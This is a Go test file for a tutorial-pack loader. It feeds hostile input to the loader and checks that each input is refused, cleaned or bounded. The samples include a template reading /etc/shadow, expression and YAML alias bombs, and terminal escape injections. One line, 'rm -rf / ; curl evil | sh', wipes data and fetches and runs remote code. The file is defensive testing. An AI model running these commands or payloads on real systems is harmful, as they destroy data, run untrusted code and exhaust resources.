package content

import (
	"strings"
	"testing"
	"testing/fstest"

	"podlab/netview"
	"podlab/packs"
)

// TestHostilePack: a pack is outside input. What it may try is refused
// or cleaned, with one line saying where.
func TestHostilePack(t *testing.T) {
	const sec = "p/2-pods.md"
	nested := "[0,1,2,3,4,5,6,7,8,9]"
	for range 7 {
		nested = "[0,1,2,3,4,5,6,7,8,9].map(x, " + nested + ")"
	}
	tests := []struct {
		name, file, old, new string
		want                 string
	}{
		{"a template reading a file", sec, "`ip addr` shows two interfaces.", `{{readFile "/etc/shadow"}}`, `function "readFile" not defined`},
		{"a template calling data", sec, "`ip addr` shows two interfaces.", `{{call .Lesson}}`, `the function "call" is not allowed`},
		{"a template defining another", sec, "`ip addr` shows two interfaces.", `{{define "x"}}y{{end}}`, `defines no templates`},
		{"a template with a variable", sec, "`ip addr` shows two interfaces.", `{{with $x := .PodIP}}{{$x}}{{end}}`, `variables`},
		{"an expression running for minutes", sec, "answer: PodPeerIndex\n", "answer: size(" + nested + ")\n", `answer: `},
		{"an expression too long", sec, "answer: PodPeerIndex\n", "answer: " + strings.Repeat("1 + ", 2000) + "1\n", `longer than`},
		{"a manifest too large", "p/pack.yaml", "format: 1", "format: 1\n#" + strings.Repeat("x", MaxManifestBytes), `longer than a pack file may be`},
		{"a 100 MB step", sec, "`ip addr` shows two interfaces.", strings.Repeat("a long line of text\n", 5<<20), `longer than a pack file may be`},
		{"a line too long", sec, "`ip addr` shows two interfaces.", strings.Repeat("x", 70<<10), `token too long`},
		{"aliases exploding", "p/pack.yaml", "format: 1", "format: 1\nx: &a [1,1,1,1,1,1,1,1,1]\n" + bombs(), `p/pack.yaml:`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := copyPack(t, packs.FS, BuiltinName)
			edit(t, m, tt.file, tt.old, tt.new)
			_, errs := Load(m, "p")
			if len(errs) == 0 {
				t.Fatalf("loaded, want an error with %q", tt.want)
			}
			var all []string
			for _, e := range errs {
				all = append(all, e.Error())
				if strings.Contains(e.Error(), "\n") || len(e.Error()) > 4096 {
					t.Errorf("error is not one short line: %.200q", e)
				}
			}
			if tt.name == "an expression running for minutes" && !strings.Contains(all[0], "cost limit") && !strings.Contains(all[0], "interrupted") {
				t.Errorf("the expression was not stopped by its bounds: %s", all[0])
			}
			if !strings.Contains(strings.Join(all, "\n"), tt.want) {
				t.Errorf("got:\n%.2000s\nwant %q", strings.Join(all, "\n"), tt.want)
			}
		})
	}
}

func bombs() string {
	var b strings.Builder
	prev := "a"
	for i := range 8 {
		name := string(rune('b' + i))
		b.WriteString(name + ": &" + name + " [")
		for j := range 9 {
			if j > 0 {
				b.WriteString(",")
			}
			b.WriteString("*" + prev)
		}
		b.WriteString("]\n")
		prev = name
	}
	return b.String()
}

// TestPackTextCleaned: escape sequences in a pack's titles, text and
// manifest reach no terminal.
func TestPackTextCleaned(t *testing.T) {
	m := copyPack(t, packs.FS, BuiltinName)
	edit(t, m, "p/2-pods.md", "## The pod's addresses", "## The pod's \x1b]0;pwned\x07addresses")
	edit(t, m, "p/2-pods.md", "`ip addr` shows two interfaces.", "`ip addr` shows \x1b[2Jtwo\x9b interfaces.")
	edit(t, m, "p/pack.yaml", "title: Pod Connectivity Fundamentals", `title: "Pod \e[31mConnectivity"`)
	pk, errs := Load(m, "p")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	st := pk.Sections[1].Steps[2]
	for _, s := range []string{st.Title, st.Render(pk.Example()), pk.Title} {
		if strings.ContainsAny(s, "\x1b\x07\u009b") {
			t.Errorf("%q holds a control character", s)
		}
	}
	if !strings.Contains(st.Title, `\x1b]0;pwned\x07`) {
		t.Errorf("the title does not show the escape as text: %q", st.Title)
	}
}

// TestRunNeverExecuted: a run: line is text to show; the step holds it
// as written and nothing in the engine can run it.
func TestRunNeverExecuted(t *testing.T) {
	m := fstest.MapFS{}
	for k, v := range scaffold(t) {
		m[k] = v
	}
	edit(t, m, "p/1-first-look.md", "run: ip addr", "run: rm -rf / ; curl evil | sh")
	pk, errs := Load(m, "p")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if c := pk.Sections[0].Steps[0].Commands[0]; c.Text != "rm -rf / ; curl evil | sh" {
		t.Errorf("the command reads %q", c.Text)
	}
}

// TestHostileChecks: a pack's lab checks cannot make `podlab check` run
// or print without end: every element of a long list failing lists a
// bounded number, and a check that cannot run (or is not reached in
// time) fails rather than passes.
func TestHostileChecks(t *testing.T) {
	m := copyPack(t, packs.FS, BuiltinName)
	edit(t, m, "p/pack.yaml", "  - name: pod\n    tags: [pod-ip]\n    rules:\n", `  - name: pod
    tags: [pod-ip]
    rules:
      - fail: size([0,1,2,3,4,5,6,7,8,9].map(a, [0,1,2,3,4,5,6,7,8,9].map(b, [0,1,2,3,4,5,6,7,8,9].map(c, [0,1,2,3,4,5,6,7,8,9].map(d, [0,1,2,3,4,5,6,7,8,9].map(e, [0,1,2,3,4,5,6,7,8,9].map(f, [0,1,2,3,4,5,6,7,8,9].map(g, a)))))))) > 0
        say: never said
      - for: b in Blocks
        fail: "true"
        say: block {{.b.cidr}} is always missing
`)
	pk, errs := Load(m, "p")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	p := bigNode(t, 200)
	a := netview.Analyze(p)
	got := pk.runChecks(p, &a)["pod"]
	if len(got) != MaxMissing+1 {
		t.Fatalf("%d findings, want %d listed and the count of the rest: %q", len(got), MaxMissing, got[len(got)-3:])
	}
	if !strings.Contains(got[0], "could not run") || got[MaxMissing] != "and 154 more" {
		t.Errorf("the findings read %q ... %q", got[0], got[MaxMissing])
	}
}
